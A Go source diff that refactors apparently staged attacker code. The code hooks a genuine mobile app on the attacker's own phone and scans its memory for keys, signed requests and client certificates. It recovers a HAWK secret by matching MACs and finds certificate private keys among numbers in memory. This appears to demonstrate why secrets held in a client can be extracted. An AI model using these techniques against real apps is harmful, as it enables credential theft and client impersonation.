@@ -4,15 +4,16 @@ import (
 	"context"
 	"fmt"
 
-	"keyladder/stages/catalog"
+	"keyladder/mobileclient/attacker/loot"
 	"keyladder/stages/mechanism/hawk"
+	"keyladder/stages/protect"
 )
 
 // hook starts the genuine app on the attacker's own phone, uses it, and searches its
 // memory. The search knows what keys, signed requests and certificates look like, and
-// not where they are, what they are called, or how the package hides them. Whoever
-// holds the phone closes it.
-func (g *Ground) hook(ctx context.Context) (*phone, *loot, error) {
+// not where they are, what they are called, or how the package hides them. The caller
+// closes the phone.
+func (g *Given) hook(ctx context.Context) (*phone, *loot.Loot, error) {
 	p, err := g.open(ctx, g.Package, nil)
 	if err != nil {
 		return nil, nil, err
@@ -25,7 +26,7 @@ func (g *Ground) hook(ctx context.Context) (*phone, *loot, error) {
 	return p, found, nil
 }
 
-func (p *phone) hook(ctx context.Context) (*loot, error) {
+func (p *phone) hook(ctx context.Context) (*loot.Loot, error) {
 	if err := p.signIn(ctx); err != nil {
 		return nil, err
 	}
@@ -33,12 +34,16 @@ func (p *phone) hook(ctx context.Context) (*loot, error) {
 		return nil, err
 	}
 	p.g.Say("Started the genuine app on our own phone and had it show the accounts.")
-	signed := p.g.Stage.Call.AppProof == catalog.Hawk
-	found, candidates := &loot{}, texts{}
+	nobody, err := p.g.caller(protect.Identity{})
+	if err != nil {
+		return nil, err
+	}
+	signed := lacks(nobody, protect.Secret)
+	found, candidates := &loot.Loot{}, loot.Texts{}
 	searched, err := eachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) {
-		found.search(data)
+		found.Search(data)
 		if signed {
-			candidates.collect(data)
+			candidates.Collect(data)
 		}
 	})
 	if err != nil {
@@ -50,7 +55,7 @@ func (p *phone) hook(ctx context.Context) (*loot, error) {
 			return nil, err
 		}
 	}
-	if p.g.Stage.Call.Transport == catalog.MutualTLS && len(found.clientCertificates()) == 0 {
+	if lacks(nobody, protect.ClientCertificate) && len(found.Certificates.Pairs()) == 0 {
 		if err := p.findKey(ctx, found); err != nil {
 			return nil, err
 		}
@@ -60,30 +65,31 @@ func (p *phone) hook(ctx context.Context) (*loot, error) {
 }
 
 // proveSecret tries all texts against the signed requests that lay in the same memory.
-func (p *phone) proveSecret(found *loot, candidates texts) error {
+func (p *phone) proveSecret(found *loot.Loot, candidates loot.Texts) error {
 	host, port, err := hawk.HostPort(p.g.TLS)
 	if err != nil {
 		return err
 	}
-	found.secrets = nil // what has a name may be a decoy; what fits a signature is the secret
-	p.g.Say("%d signed requests lay there, and %d texts that could be a secret.", len(found.signatures), len(candidates))
-	if secret := candidates.prove(host, port, found.signatures); secret != "" {
-		found.secrets = []string{secret}
-		p.g.Say("One of the texts makes the same signature: it is the secret (%s).", fingerprint(secret))
+	secrets := &found.Secrets
+	secrets.Values = nil // what has a name may be a decoy; what fits a signature is the secret
+	p.g.Say("%d signed requests lay there, and %d texts that could be a secret.", len(secrets.Signed), len(candidates))
+	if secret := candidates.Prove(host, port, secrets.Signed); secret != "" {
+		secrets.Values = []string{secret}
+		p.g.Say("One of the texts makes the same MAC: it is the secret (%s).", loot.Fingerprint(secret))
 	}
 	return nil
 }
 
 // findKey looks for the private key of a certificate that the app has, as a number.
-func (p *phone) findKey(ctx context.Context, found *loot) error {
-	keys := newScalars(found.certificates)
+func (p *phone) findKey(ctx context.Context, found *loot.Loot) error {
+	keys := loot.NewScalars(found.Certificates.All)
 	p.g.Say("No private key stands there as a file would have it. Trying every number in memory that looks random against the certificates that are there, too.")
-	if _, err := eachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) { keys.search(data) }); err != nil {
+	if _, err := eachWritable(ctx, p.app.PID(), func(_ uint64, data []byte) { keys.Search(data) }); err != nil {
 		return fmt.Errorf("read the app's memory: %w", err)
 	}
-	for _, key := range keys.found {
-		found.addPrivateKey(key)
+	for _, key := range keys.Found {
+		found.Certificates.AddKey(key)
 	}
-	p.g.Say("Tried %d numbers: %d of them is the private key of a certificate.", len(keys.tried), len(keys.found))
+	p.g.Say("Tried %d numbers: %d of them is the private key of a certificate.", keys.Tried(), len(keys.Found))
 	return nil
 }
